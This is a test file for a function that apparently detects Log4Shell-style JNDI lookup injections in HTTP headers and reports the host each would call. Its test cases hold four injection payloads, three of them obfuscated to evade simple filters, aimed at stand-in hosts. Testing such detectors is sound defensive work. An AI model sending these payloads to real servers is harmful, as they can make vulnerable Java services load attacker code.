import fc from "fast-check";
import { expect, test } from "vitest";
import { findCallbacks } from "./lookups.ts";

test.each([
  ["${jndi:ldap://192.0.2.1:1389/a}", "ldap", "192.0.2.1:1389", "/a"],
  ["${${lower:j}${lower:n}${lower:d}i:${lower:rmi}://h.example/x}", "rmi", "h.example", "/x"],
  ["${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://h/x}", "ldap", "h", "/x"],
  ["${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://h/x}", "ldap", "h", "/x"],
])("%s names whom it would call", (value, scheme, host, path) => {
  expect(findCallbacks([["User-Agent", value]])).toEqual([{ scheme, host, path, place: "User-Agent" }]);
});

test("ordinary text calls nobody, and any text is read in time", () => {
  fc.assert(
    fc.property(
      fc.string({ unit: fc.constantFrom("$", "{", "}", ":", "-", "j", "n", "d", "i", "x"), maxLength: 400 }),
      (text) => {
        expect(findCallbacks([["q", text]]).length).toBeLessThanOrEqual(16);
      },
    ),
  );
  expect(findCallbacks([["q", "${".repeat(4_000)]])).toEqual([]);
});
